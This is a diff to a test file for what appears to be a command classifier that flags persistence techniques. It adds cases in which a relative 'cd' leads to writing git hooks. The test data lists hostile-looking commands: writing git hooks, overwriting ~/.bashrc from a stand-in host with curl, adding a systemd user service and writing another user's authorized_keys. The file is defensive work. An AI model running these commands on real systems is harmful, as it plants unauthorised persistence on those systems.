@@ -41,6 +41,9 @@ describe("persistence: start-up files, authorized_keys, at/batch, LD_PRELOAD", (
     ["rsync -a dotfiles/ ~/", "soft.persistence"],
     ["echo x > .git/hooks/pre-commit", "soft.persistence"],
     ["cp hook .git/hooks/post-checkout", "soft.persistence"],
+    // A relative `cd` is followed: `pre-commit` is `.git/hooks/pre-commit` (was allowed).
+    ["cd .git/hooks && cp ../../hook.sh pre-commit", "soft.persistence"],
+    ["cd .git; cd hooks; ln -s ../../x.sh post-merge", "soft.persistence"],
     ["env -S 'curl -o /home/u/.bashrc https://x.example/rc'", "soft.persistence"],
     ["echo x > ~/.config/systemd/user/x.service", "soft.persistence"],
     ["sudo -u bob cp x /home/bob/.ssh/authorized_keys", "soft.persistence"],
